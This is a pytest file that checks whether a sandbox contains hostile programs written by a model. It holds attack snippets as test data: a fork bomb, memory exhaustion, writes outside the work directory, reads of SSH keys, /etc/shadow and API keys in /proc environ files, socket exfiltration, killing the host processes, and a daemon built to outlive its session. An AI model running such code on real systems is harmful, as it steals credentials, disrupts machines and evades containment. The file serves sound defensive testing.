"""Hostile model-written programs, run through the real sandbox (`run_program` / `run_many`).

Every attack must be contained: the sample is reported as failed (or timed out) with a reason, nothing leaks
or survives, and the next ordinary program still passes. The attacks run in whatever isolation mode this
machine gives (`isolation()`); the kernel-level variants (a child interpreter, which has no audit hook) are
skipped in the fallback mode, where only the audit hook protects.
"""

from __future__ import annotations

import os
import secrets
import signal
import socket
import threading
import time
from pathlib import Path

import pytest

from relaxspec.tasks.sandbox import SandboxResult, isolation, run_many, run_program

OK = "assert sum([1, 2, 3]) == 6\n"
SECTION = "Sandbox attacks (`relaxspec.tasks.sandbox`, mode: {mode})"
NS = isolation()["mode"] == "namespace"
needs_ns = pytest.mark.skipif(not NS, reason="kernel-level isolation needs root + unshare (namespace mode)")

# A child interpreter started from inside the sandbox has no audit hook: only the kernel layers stop it.
CHILD = """
import subprocess, sys
def child(code):
    r = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=20)
    err = r.stderr.strip().splitlines()
    return r.returncode, r.stdout.strip(), err[-1] if err else ""
"""


def _section() -> str:
    return SECTION.format(mode=isolation()["mode"])


def _contained(res: SandboxResult, statuses=("failed",), reason_part: str = "") -> None:
    """The sample failed with a reason, and the harness keeps working afterwards."""
    assert not res.passed, res
    assert res.status in statuses, res
    assert res.reason, res
    assert reason_part in res.reason, res
    nxt = run_program(OK, timeout_s=5)
    assert nxt.passed, nxt


def _survivors(workdir: str) -> list[int]:
    """Host pids whose working directory is (still) the sample's working directory."""
    out = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            continue
        if cwd == workdir or cwd.startswith(workdir + "/") or cwd.startswith(workdir + " "):
            out.append(int(pid))
    return out


def _with_token(token: str) -> list[int]:
    """Host pids whose command line contains ``token``."""
    out = []
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == os.getpid():
            continue
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                if token.encode() in f.read():
                    out.append(int(pid))
        except OSError:
            continue
    return out


def _first_line(res: SandboxResult) -> str:
    return (res.stdout.strip().splitlines() or [""])[0]


# ------------------------------------------------------------------------------------ resource exhaustion


def test_fork_bomb(observe):
    code = "import os\nprint(os.getcwd(), flush=True)\nwhile True:\n    os.fork()\n"
    t = time.perf_counter()
    res = run_program(code, timeout_s=3)
    observe(_section(), "fork bomb (`while True: os.fork()`)", "contained, reported failed/timeout",
            f"{res.status}: {res.reason} ({time.perf_counter() - t:.1f} s)")
    workdir = _first_line(res)
    _contained(res, ("failed", "timeout"))
    if workdir:
        time.sleep(0.3)
        assert not _survivors(workdir)


def test_infinite_loop(observe):
    t = time.perf_counter()
    res = run_program("while True:\n    pass\n", timeout_s=1.5)
    dt = time.perf_counter() - t
    observe(_section(), "infinite loop", "timeout", f"{res.status}: {res.reason} ({dt:.1f} s)")
    assert dt < 10
    _contained(res, ("timeout",), "timeout")


def test_huge_allocation(observe):
    res = run_program("x = bytearray(10 * 1024**3)\n", timeout_s=5)
    observe(_section(), "10 GB allocation", "memory", f"{res.status}: {res.reason}")
    _contained(res, ("memory",), "MemoryError")


def test_deep_recursion_python(observe):
    code = "import sys\nsys.setrecursionlimit(10**9)\ndef f(n):\n    return f(n + 1)\nf(0)\n"
    res = run_program(code, timeout_s=3)
    observe(_section(), "deep recursion, Python frames (`setrecursionlimit(10**9)`)",
            "failed/memory/timeout", f"{res.status}: {res.reason}")
    _contained(res, ("failed", "memory", "timeout"))


def test_deep_recursion_c_stack(observe):
    code = "import sys\nsys.setrecursionlimit(10**8)\nx = []\nfor _ in range(10**6):\n    x = [x]\nprint(len(repr(x)))\n"
    res = run_program(code, timeout_s=5)
    observe(_section(), "deep recursion, C stack (`repr` of a 10^6-deep list)", "failed (crash contained)",
            f"{res.status}: {res.reason} (exit {res.returncode})")
    _contained(res, ("failed", "memory", "timeout"))


# ---------------------------------------------------------------------------------------------- file system


@pytest.mark.parametrize("target", ["/tmp/escape_{}", "~/escape_{}", "{root}/escape_{}", "/etc/escape_{}"])
def test_write_outside_workdir(observe, target):
    root = str(Path(__file__).resolve().parents[2])
    path = os.path.expanduser(target.format(secrets.token_hex(4), root=root))
    res = run_program(f"open({path!r}, 'w').write('pwned')\n")
    observe(_section(), f"write outside the work dir: `{target.format('X', root='<repo>')}`", "refused",
            f"{res.status}: {res.reason}")
    assert not os.path.exists(path)
    _contained(res)


@needs_ns
def test_write_outside_workdir_without_audit_hook(observe):
    name = f"escape_{secrets.token_hex(4)}"
    root = Path(__file__).resolve().parents[2]
    targets = [str(root / name), os.path.expanduser(f"~/{name}"), f"/tmp/{name}", f"/var/tmp/{name}"]
    code = CHILD + f"""
errs = []
for t in {targets!r}:
    rc, out, err = child("open(%r, 'w').write('pwned')" % t)
    errs.append(err if rc else "WROTE " + t)
print(errs)
raise PermissionError("; ".join(errs))
"""
    res = run_program(code, timeout_s=20)
    observe(_section(), "write outside the work dir from a child interpreter (no audit hook)",
            "refused by read-only mounts / hidden dirs / private tmpfs", f"{res.status}: {res.reason[:300]}")
    for t in targets:
        assert not os.path.exists(t), t  # /tmp and /var/tmp writes land in the namespace's private tmpfs
    assert "WROTE " + targets[0] not in res.stdout and "WROTE " + targets[1] not in res.stdout, res
    _contained(res)


@pytest.fixture
def planted_secrets(tmp_path):
    """Secret files outside the sandbox: a temp HOME-like dir, a dir under the real home, the repository."""
    token = f"SECRET-{secrets.token_hex(8)}"
    fake_home = tmp_path / "home" / "alice"
    (fake_home / ".ssh").mkdir(parents=True)
    under_home = Path.home() / ".cache" / f"relaxspec-reliability-{secrets.token_hex(4)}"
    under_home.mkdir(parents=True)
    in_repo = Path(__file__).resolve().parents[2] / f".reliability-secret-{secrets.token_hex(4)}"
    files = [fake_home / ".ssh" / "id_rsa", fake_home / ".netrc", under_home / "secret.txt", in_repo]
    for f in files:
        f.write_text(token + "\n")
    try:
        yield token, files
    finally:
        for f in files:
            f.unlink(missing_ok=True)
        under_home.rmdir()


READ_ATTACK = """
import os, glob
found, errs = [], []
for path in {paths!r}:
    path = os.path.expanduser(path)
    try:
        with open(path) as f:
            found.append((path, f.read(200)))
    except OSError as e:
        errs.append(type(e).__name__)
listed = []
for d in {dirs!r}:
    try:
        listed.append((d, os.listdir(os.path.expanduser(d))[:20]))
    except OSError as e:
        errs.append(type(e).__name__)
print(found, listed)
if not any(content for _, content in found):
    raise LookupError("nothing readable: " + ",".join(sorted(set(errs))))
"""


def test_read_home_and_secrets(observe, planted_secrets):
    token, files = planted_secrets
    paths = ["~/.bashrc", "/root/.bashrc", "/root/.gitconfig", "/root/.ssh/id_rsa", "/etc/shadow",
             *[str(f) for f in files]]
    dirs = ["/root", "/home", str(files[0].parent.parent)]
    real = [p for p in paths if os.path.isfile(os.path.expanduser(p))]
    res = run_program(READ_ATTACK.format(paths=paths, dirs=dirs), timeout_s=10)
    observe(_section(), "read the user's home, `/etc/shadow` and planted secret files "
            "(temp HOME-like dir, `~/.cache/...`, repository root)",
            "nothing readable", f"{res.status}: {res.reason}")
    assert token not in res.stdout + res.stderr
    for p in real:
        with open(os.path.expanduser(p), errors="replace") as f:
            content = f.read().strip()
        if len(content) >= 8:
            assert content[:40] not in res.stdout, p
    _contained(res, reason_part="nothing readable")


@needs_ns
def test_read_home_without_audit_hook(observe, planted_secrets):
    token, files = planted_secrets
    paths = ["/root/.bashrc", "/root/.gitconfig", *[str(f) for f in files]]
    code = CHILD + f"""
outs = [child("print(open(%r).read()[:200])" % p) for p in {paths!r}]
print(outs)
if not any(o[0] == 0 for o in outs):
    raise LookupError("nothing readable from a child interpreter")
"""
    res = run_program(code, timeout_s=20)
    observe(_section(), "read home / planted secrets from a child interpreter (no audit hook)",
            "nothing readable", f"{res.status}: {res.reason}")
    assert token not in res.stdout + res.stderr
    _contained(res, reason_part="nothing readable")


# ------------------------------------------------------------------------------------------ environment


ENV_ATTACK = """
import os
names = {names!r}
found = [(n, os.environ[n]) for n in names if n in os.environ]
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for part in ("environ", "cmdline"):
        try:
            with open("/proc/%s/%s" % (pid, part), "rb") as f:
                data = f.read()
        except OSError:
            continue
        for n in names:
            if n.encode() in data:
                found.append((pid, part, data[:400]))
print(found, sorted(os.environ))
if not found:
    raise LookupError("no secret visible in os.environ or /proc/*/environ")
"""


def test_environment_secrets(observe, monkeypatch):
    secret = f"sk-test-secret-{secrets.token_hex(6)}"
    names = ["OPENAI_API_KEY", "WANDB_API_KEY", "HF_TOKEN", "AWS_SECRET_ACCESS_KEY"]
    for n in names:
        monkeypatch.setenv(n, secret)
    res = run_program(ENV_ATTACK.format(names=names), timeout_s=10)
    observe(_section(), "environment secrets (`OPENAI_API_KEY`, `WANDB_API_KEY`, ... set in the parent; "
            "read `os.environ` and every `/proc/*/environ`)", "not visible", f"{res.status}: {res.reason}")
    assert secret not in res.stdout + res.stderr
    _contained(res, reason_part="no secret visible")


# ----------------------------------------------------------------------------------------------- network


@pytest.fixture
def loopback_server():
    """A real TCP + UDP server on 127.0.0.1 in the test process; records anything it receives."""
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    tcp.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen(8)
    tcp.settimeout(0.2)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    udp.bind(("127.0.0.1", tcp.getsockname()[1]))
    udp.settimeout(0.2)
    got: list[object] = []
    stop = threading.Event()

    def serve():
        while not stop.is_set():
            for s in (tcp, udp):
                try:
                    if s is tcp:
                        conn, addr = s.accept()
                        conn.settimeout(0.5)
                        got.append(("tcp", addr, conn.recv(100)))
                        conn.close()
                    else:
                        got.append(("udp", *s.recvfrom(100)))
                except (TimeoutError, OSError):
                    pass

    th = threading.Thread(target=serve, daemon=True)
    th.start()
    try:
        yield tcp.getsockname()[1], got
    finally:
        stop.set()
        th.join(2)
        tcp.close()
        udp.close()


NET_ATTACK = """
import socket, time
errs = []
t = time.time()
try:
    s = socket.create_connection(("{host}", {port}), timeout=2)
    s.sendall(b"exfiltrated")
    errs.append("CONNECTED")
except OSError as e:
    errs.append("tcp: %s" % e)
try:
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    u.sendto(b"exfiltrated", ("{host}", {port}))
    errs.append("SENT")
except OSError as e:
    errs.append("udp: %s" % e)
print(errs, round(time.time() - t, 2))
if "CONNECTED" not in errs:
    raise ConnectionError("; ".join(errs))
"""


def test_loopback_socket(observe, loopback_server):
    port, got = loopback_server
    res = run_program(NET_ATTACK.format(host="127.0.0.1", port=port), timeout_s=10)
    time.sleep(0.5)
    observe(_section(), "TCP/UDP to a real server listening on 127.0.0.1 in the parent",
            "refused, server receives nothing", f"{res.status}: {res.reason}; server received {len(got)}")
    assert not got
    _contained(res, reason_part="ConnectionError")


@needs_ns
def test_loopback_socket_without_audit_hook(observe, loopback_server):
    port, got = loopback_server
    inner = NET_ATTACK.format(host="127.0.0.1", port=port)
    code = CHILD + f"""
rc, out, err = child({inner!r})
print(rc, out, err)
if rc == 0:
    print("CONNECTED")
else:
    raise ConnectionError(err)
"""
    res = run_program(code, timeout_s=20)
    time.sleep(0.5)
    observe(_section(), "loopback TCP/UDP from a child interpreter (no audit hook)",
            "refused by the network namespace, server receives nothing",
            f"{res.status}: {res.reason}; server received {len(got)}")
    assert not got
    assert "unreachable" in res.reason or "refused" in res.reason, res
    _contained(res)


@pytest.mark.parametrize("hook", [True, False], ids=["audit-hook", "child-interpreter"])
def test_public_address(observe, hook):
    if not hook and not NS:
        pytest.skip("kernel-level isolation needs namespace mode")
    inner = NET_ATTACK.format(host="1.1.1.1", port=80)
    code = inner if hook else CHILD + f"""
rc, out, err = child({inner!r})
print(rc, out, err)
if rc:
    raise ConnectionError(err)
"""
    t = time.perf_counter()
    res = run_program(code, timeout_s=15)
    dt = time.perf_counter() - t
    observe(_section(), f"TCP/UDP to 1.1.1.1:80 ({'in the program' if hook else 'from a child interpreter'})",
            "fails fast", f"{res.status}: {res.reason} ({dt:.1f} s)")
    assert dt < 5, res
    _contained(res)


# ------------------------------------------------------------------------------------------ other processes


@pytest.fixture
def sigterm_trap():
    """Record (instead of dying from) a SIGTERM to the test process during the test."""
    got: list[int] = []
    old = signal.signal(signal.SIGTERM, lambda s, f: got.append(s))
    try:
        yield got
    finally:
        signal.signal(signal.SIGTERM, old)


def test_kill_parent_and_test_process(observe, sigterm_trap):
    me = os.getpid()
    code = f"""
import os, signal
errs = []
for pid, sig in ((os.getppid(), signal.SIGKILL), ({me}, signal.SIGTERM)):
    try:
        os.kill(pid, sig)
        errs.append("sent to %d" % pid)
    except OSError as e:
        errs.append("%s" % e)
print(errs)
raise ProcessLookupError("; ".join(errs))
"""
    res = run_program(code, timeout_s=5)
    observe(_section(), "kill the parent (`os.kill(os.getppid(), SIGKILL)`) and the test process "
            "(`os.kill(<pytest pid>, SIGTERM)`)", "refused, test process unharmed", f"{res.status}: {res.reason}")
    time.sleep(0.2)
    assert not sigterm_trap
    _contained(res)


@needs_ns
def test_kill_test_process_without_audit_hook(observe, sigterm_trap):
    me = os.getpid()
    code = CHILD + f"""
rc, out, err = child("import os, signal; os.kill({me}, signal.SIGTERM); os.kill(1, signal.SIGKILL); print('sent')")
print(rc, out, err)
raise ProcessLookupError(err or out)
"""
    res = run_program(code, timeout_s=10)
    observe(_section(), "SIGTERM to the test process and SIGKILL to pid 1 from a child interpreter (no audit hook)",
            "test process unharmed (PID namespace)", f"{res.status}: {res.reason}")
    time.sleep(0.2)
    assert not sigterm_trap
    _contained(res)


DAEMON = """
import os, sys, time
print(os.getcwd(), flush=True)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        if {exec_!r}:
            os.execv(sys.executable, [sys.executable, "-c", "import time\\n# {token}\\nwhile True:\\n"
                     "    open('marker', 'a').write('x')\\n    time.sleep(0.1)"])
        while True:
            with open("marker", "a") as f:
                f.write("x")
            time.sleep(0.1)
    os._exit(0)
os.wait()
deadline = time.time() + 5
while time.time() < deadline and (not os.path.exists("marker") or os.path.getsize("marker") < 3):
    time.sleep(0.05)
print("marker", os.path.getsize("marker") if os.path.exists("marker") else 0, flush=True)
raise RuntimeError("daemon started, sample ends")
"""


@pytest.mark.parametrize("exec_", [False, True], ids=["fork", "fork+exec"])
def test_background_process_does_not_outlive_sample(observe, exec_):
    token = f"reliability-daemon-{secrets.token_hex(6)}"
    res = run_program(DAEMON.format(token=token, exec_=exec_), timeout_s=10)
    if isolation()["nproc"] == "audit-hook":  # fallback as root: process creation itself is refused
        observe(_section(), "background process outliving the sample", "refused",
                f"{res.status}: {res.reason}")
        _contained(res, reason_part="process creation is disabled")
        return
    lines = res.stdout.strip().splitlines()
    workdir = lines[0] if lines else ""
    marker = [ln for ln in lines if ln.startswith("marker")]
    time.sleep(0.5)
    left = _survivors(workdir) if workdir else []
    left += _with_token(token)
    observe(_section(), f"background process outliving the sample (double fork + setsid"
            f"{' + exec' if exec_ else ''}, writes a marker every 0.1 s)", "killed with the sample",
            f"{res.status}: {res.reason}; during the sample: {marker[0] if marker else 'no marker'}; "
            f"survivors after: {len(left)}")
    assert marker and int(marker[0].split()[1]) >= 3, res  # the daemon really ran during the sample
    assert not left, left
    assert not os.path.exists(workdir)  # nothing recreated the working directory
    _contained(res, reason_part="daemon started")


# ------------------------------------------------------------------------------------------------ batch


def test_run_many_mixed_batch(observe):
    """All attacks in one `run_many` batch interleaved with ordinary programs: each gets its own verdict."""
    hostile = [
        "import os\nwhile True:\n    os.fork()\n",
        "while True:\n    pass\n",
        "x = bytearray(10 * 1024**3)\n",
        "open('/etc/escape_batch', 'w').write('x')\n",
        "print(open('/root/.bashrc').read())\n",
        "import socket\nsocket.create_connection(('1.1.1.1', 80), 2)\n",
    ]
    programs = [p for h in hostile for p in (h, OK)]
    t = time.perf_counter()
    res = run_many(programs, n_workers=2, timeout_s=2)
    dt = time.perf_counter() - t
    verdicts = [r.status for r in res]
    observe(_section(), "all of the above in one `run_many` batch, interleaved with ordinary programs",
            "each hostile sample fails, each ordinary one passes", f"{verdicts} in {dt:.1f} s")
    assert [r.passed for r in res] == [False, True] * len(hostile), verdicts
    assert all(r.reason for r in res[::2])
    assert not os.path.exists("/etc/escape_batch")


# ---------------------------------------------------------------------------------------- fallback mode


@pytest.fixture
def fallback_mode(monkeypatch):
    """Force the no-namespace fallback (audit hook + rlimits only)."""
    from relaxspec.tasks import sandbox

    monkeypatch.setattr(sandbox, "_namespace_ok", lambda: False)
    isolation.cache_clear()
    yield
    monkeypatch.undo()
    isolation.cache_clear()


def test_fallback_mode_attacks(observe, fallback_mode, monkeypatch, sigterm_trap, planted_secrets):
    """The audit-hook fallback refuses the same in-process attacks (reads, env, signals, network, writes)."""
    token, files = planted_secrets
    monkeypatch.setenv("OPENAI_API_KEY", token)
    me = os.getpid()
    attacks = {
        "read ~/.bashrc": "print(open('/root/.bashrc').read())",
        "read planted secret": f"print(open({str(files[2])!r}).read())",
        "read /proc/<parent>/environ": f"print(open('/proc/{me}/environ', 'rb').read())",
        "environment": "import os\nprint(os.environ['OPENAI_API_KEY'])",
        "SIGTERM to the test process": f"import os\nos.kill({me}, 15)",
        "signal every process": "import os\nos.kill(-1, 0)",
        "loopback socket": "import socket\nsocket.create_connection(('127.0.0.1', 9), 1)",
        "write outside": "open('/etc/escape_fallback', 'w').write('x')",
    }
    seen = {}
    for name, code in attacks.items():
        res = run_program(code, timeout_s=5)
        seen[name] = f"{res.status}: {res.reason}"
        assert not res.passed and res.reason, (name, res)
        assert token not in res.stdout + res.stderr
    assert run_program(OK).passed
    assert not sigterm_trap and not os.path.exists("/etc/escape_fallback")
    observe("Sandbox attacks, forced fallback mode (audit hook + rlimits, no namespaces)",
            ", ".join(attacks), "all refused", "; ".join(f"{k} -> {v}" for k, v in seen.items()))


@needs_ns
def test_host_unix_socket(observe):
    """A unix socket of a host service (e.g. /run/docker.sock): AF_UNIX is allowed, the file must be out of reach."""
    path = f"/run/relaxspec-reliability-{secrets.token_hex(4)}.sock"
    srv = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    try:
        srv.bind(path)
    except OSError as exc:
        pytest.skip(f"cannot create a socket in /run: {exc}")
    srv.listen(1)
    srv.settimeout(0.5)
    try:
        code = f"import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect({path!r})\ns.sendall(b'x')\n"
        res = run_program(code, timeout_s=5)
        try:
            conn, _ = srv.accept()
            got = conn.recv(10)
            conn.close()
        except (TimeoutError, OSError):
            got = b""
        observe(_section(), "connect to a host unix socket in /run (where docker.sock & co. live)",
                "socket file not reachable", f"{res.status}: {res.reason}; server received {got!r}")
        assert not got
        _contained(res)
    finally:
        srv.close()
        os.unlink(path)
